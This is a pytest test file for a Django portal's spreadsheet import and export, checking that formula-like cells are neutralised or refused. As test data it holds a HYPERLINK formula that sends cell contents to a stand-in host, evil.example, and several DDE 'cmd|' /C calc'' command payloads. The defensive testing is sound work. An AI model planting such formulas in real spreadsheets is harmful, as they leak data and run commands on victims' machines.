"""Spreadsheet formula injection (issue 13, defect 12): exports never carry a live formula, imports
refuse one in a text column with an error naming the Excel row (OWASP's CSV-injection rule)."""

import csv
import io

import pytest
import tablib
from openpyxl import Workbook, load_workbook

from cppcc_portal.core.spreadsheets import looks_like_formula, neutralise, workbook_bytes
from members.models import Member
from members.resources import MemberResource, import_with_rules, row_errors
from proposals.resources import ProposalResource
from proposals.services import proposal_create
from tests.members.test_import import HEADERS, good_row, reference  # noqa: F401 - the roster fixture
from tests.proposals.factories import CategoryFactory

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised_for_a_spreadsheet(start):
    assert neutralise(start + "1+1") == "'" + start + "1+1"
    assert looks_like_formula(start + "cmd|' /C calc'!A0")


def test_plain_text_numbers_and_phone_numbers_are_left_alone():
    assert neutralise("关于加强社区养老服务的提案") == "关于加强社区养老服务的提案"
    assert neutralise(42) == 42
    assert not looks_like_formula("+86 138 0013 8000")
    assert not looks_like_formula("-12.5")
    assert not looks_like_formula("010-64012345")


@pytest.mark.django_db
def test_a_proposal_title_that_is_a_formula_comes_out_of_the_csv_and_xlsx_exports_as_text(member):
    proposal_create(
        actor=member.user,
        submitter=member,
        title=ATTACK,
        reason="理由",
        suggestions="建议",
        category=CategoryFactory(),
    )
    dataset = ProposalResource().export()
    titles = [row for row in csv.reader(io.StringIO(dataset.csv))][1:]
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in titles for cell in row)
    assert any(cell == "'" + ATTACK for row in titles for cell in row)

    sheet = load_workbook(io.BytesIO(dataset.export("xlsx"))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row if cell.value]
    assert not [cell for cell in cells if cell.data_type == "f"]
    assert any(cell.value == "'" + ATTACK for cell in cells)


def test_our_own_workbooks_carry_no_formula_whatever_a_cell_holds():
    book = Workbook()
    book.active.append(["标题", ATTACK, "@SUM(A1:A2)", "-2+3+cmd|' /C calc'!A0", 7])
    sheet = load_workbook(io.BytesIO(workbook_bytes(book))).active
    row = [cell for cell in sheet[1]]
    assert [cell.data_type for cell in row[:4]] == ["s", "s", "s", "s"]
    assert row[1].value == "'" + ATTACK and row[4].value == 7


def csv_file(rows) -> tablib.Dataset:
    """A roster CSV as the office would upload it (the text reaches the import as typed)."""
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow(HEADERS)
    writer.writerows(rows)
    return tablib.Dataset().load(text.getvalue(), format="csv")


@pytest.mark.usefixtures("reference")
def test_a_roster_csv_import_with_a_formula_as_a_name_is_refused_naming_the_excel_row(staff_user):
    dataset = csv_file([good_row("D001", "王丽"), good_row("D002", "=cmd|' /C calc'!A0")])
    result = import_with_rules(MemberResource(), dataset, actor=staff_user, dry_run=False)
    assert not Member.objects.exists()
    errors = row_errors(result)
    assert [(e["row"], e["field"]) for e in errors] == [(2, "name")]
    # The second data row is the third row of the sheet (under the header row).
    assert "第 3 行" in errors[0]["message"] and "姓名" in errors[0]["message"]


@pytest.mark.usefixtures("reference")
def test_a_work_unit_starting_with_a_plus_is_refused_but_a_phone_number_with_one_is_not(staff_user):
    row = good_row("D001", "王丽", phone="+8613800138000")
    row[7] = "+北京 东城区"
    result = import_with_rules(MemberResource(), csv_file([row]), actor=staff_user, dry_run=False)
    assert [e["field"] for e in row_errors(result)] == ["work_unit"]
